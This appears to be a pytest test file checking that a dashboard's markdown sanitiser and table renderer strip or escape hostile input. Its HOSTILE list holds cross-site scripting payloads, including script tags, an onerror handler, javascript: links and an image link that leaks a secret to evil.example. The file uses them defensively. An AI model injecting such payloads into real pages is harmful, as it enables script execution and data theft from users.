from datetime import UTC, datetime
from html.parser import HTMLParser

import pytest

from dashboards.views.answer import sources, table
from dashboards.views.markdown import safe_html
from engine.facts import Fact

HOSTILE = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "[click](javascript:alert(1))",
    "![leak](https://evil.example/x?d=secret)",
    "[out](https://evil.example)",
    '<a href="https://evil.example" style="position:fixed">x</a>',
    "<iframe src=//evil.example></iframe>",
    '<p class="fb-mh-lost">x</p>',
]


class Tags(HTMLParser):
    """Every tag and attribute that a browser would see."""

    def __init__(self):
        super().__init__()
        self.tags, self.attributes = set(), set()

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes |= set(attrs)


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_in_a_text_can_act_or_reach_out(text):
    seen = Tags()
    seen.feed(safe_html(text))
    assert seen.tags <= {"p"}
    assert seen.attributes == set()


def test_lists_tables_and_emphasis_survive():
    html = safe_html("**A** *b*\n\n- one\n\n| a | b |\n|---|---|\n| 1 | 2 |")
    for part in ("<strong>A</strong>", "<em>b</em>", "<li>one</li>", "<td>1</td>"):
        assert part in html


def test_cells_and_sources_are_text():
    class Content:
        columns = ("<b>a</b>",)
        rows = (("<script>1</script>",),) * 13

    fact = Fact("<i>", "<i>", "<i>", "text", datetime(2026, 11, 1, tzinfo=UTC), "<i>")
    html = table(Content()) + sources([fact], "<i>", "<i>", ["<i>"])
    assert "<script" not in html
    assert "<i>" not in html
    assert "and 1 more" in html
